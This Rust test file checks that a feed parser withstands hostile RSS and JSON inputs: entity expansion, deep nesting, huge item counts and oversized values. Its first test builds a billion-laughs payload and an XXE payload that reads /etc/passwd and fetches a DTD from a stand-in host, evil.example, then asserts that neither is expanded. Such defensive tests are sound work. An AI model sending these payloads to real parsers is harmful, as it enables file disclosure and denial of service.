//! Feeds that mean harm.

use super::*;

#[test]
fn entities_that_a_document_defines_are_not_filled_in() {
    let mut laughs = String::from("<!DOCTYPE rss [<!ENTITY a0 \"lol\">");
    for n in 1..30 {
        let more = format!("&a{};", n - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY a{n} \"{more}\">"));
    }
    laughs
        .push_str("<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">%p;]>");
    laughs.push_str("<rss><channel><title>&a29;</title><item><title>x &xxe; y</title></item></channel></rss>");
    let feed = fed(&laughs);
    assert_eq!(feed.title.as_deref(), Some("&a29;"));
    assert_eq!(feed.items[0].title.as_deref(), Some("x &xxe; y"));
}

#[test]
fn deep_nesting_is_refused_where_it_costs() {
    let deep = "<b>".repeat(100_000);
    assert_eq!(refused(&rss(&format!("<item><description>{deep}"))), Unreadable::Deep);
    let deep = format!("{}{}", "<b>".repeat(100), "</b>".repeat(100));
    assert_eq!(
        fed(&rss(&format!(
            "<item><title>A</title><description>{deep}</description></item>"
        )))
        .items
        .len(),
        1
    );
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let json = format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"x\":{deep},\"items\":[]}}");
    // Either is well; what counts is that it ends.
    let _ = read(json.as_bytes(), None, &at());
    let json = format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{{\"id\":{deep}}}]}}");
    let _ = read(json.as_bytes(), None, &at());
}

#[test]
fn of_very_many_items_the_first_are_read() {
    let items: String = (0..ITEMS_MAX + 10)
        .map(|n| format!("<item><guid>{n}</guid><title>t</title></item>"))
        .collect();
    let feed = fed(&rss(&items));
    assert_eq!((feed.items.len(), feed.cut), (ITEMS_MAX, true));
    assert_eq!(feed.items[ITEMS_MAX - 1].id, (ITEMS_MAX - 1).to_string());
    let items: Vec<String> = (0..ITEMS_MAX + 10)
        .map(|n| format!("{{\"id\":{n},\"title\":\"t\"}}"))
        .collect();
    let json = format!(
        "{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{}]}}",
        items.join(",")
    );
    let feed = fed(&json);
    assert_eq!((feed.items.len(), feed.cut), (ITEMS_MAX, true));
    let exact: String = (0..ITEMS_MAX)
        .map(|n| format!("<item><guid>{n}</guid><title>t</title></item>"))
        .collect();
    let feed = fed(&rss(&exact));
    assert_eq!((feed.items.len(), feed.cut), (ITEMS_MAX, false));
    let nothing = fed(&rss(&"<item/>".repeat(1_000_000)));
    assert!(nothing.items.is_empty() && !nothing.cut);
}

#[test]
fn large_values_end_small() {
    let big = "x ".repeat(2 << 20);
    let feed = fed(&rss(&format!(
        "<item><guid>{big}</guid><link>https://example.org/{big}</link><title>{big}</title><description>{big}</description>\
         <pubDate>{big}</pubDate></item>"
    )));
    let item = &feed.items[0];
    assert!(item.id.len() <= ID_MAX);
    assert_eq!((&item.url, item.published), (&None, None));
    assert!(
        item.summary
            .as_ref()
            .is_some_and(|text| text.chars().count() <= SUMMARY_MAX)
    );
    let attributes: String = (0..100_000).map(|n| format!(" a{n}='x'")).collect();
    let feed = fed(&rss(&format!("<item{attributes}><title{attributes}>A</title></item>")));
    assert_eq!(feed.items[0].title.as_deref(), Some("A"));
}

#[test]
fn texts_that_make_work_end() {
    for piece in [
        "<",
        "<a ",
        "<a \"",
        "<a '\">",
        "<script>",
        "<!--",
        "&",
        "&lt;",
        "&amp;",
        "</",
        "<![CDATA[",
    ] {
        let raw = piece.repeat(100_000);
        let text = plain::text(&raw, SUMMARY_MAX).unwrap_or_default();
        assert!(text.chars().count() <= SUMMARY_MAX, "{piece}");
    }
    let many = format!("{}{}", "<b>".repeat(50), "x");
    let spaces: String = (0..200).map(|n| format!(" xmlns:n{n}='urn:{n}'")).collect();
    // More vocabularies than any feed has: refused, not slow.
    assert!(matches!(
        refused(&format!("<rss{spaces}>{many}")),
        Unreadable::Broken { .. }
    ));
}
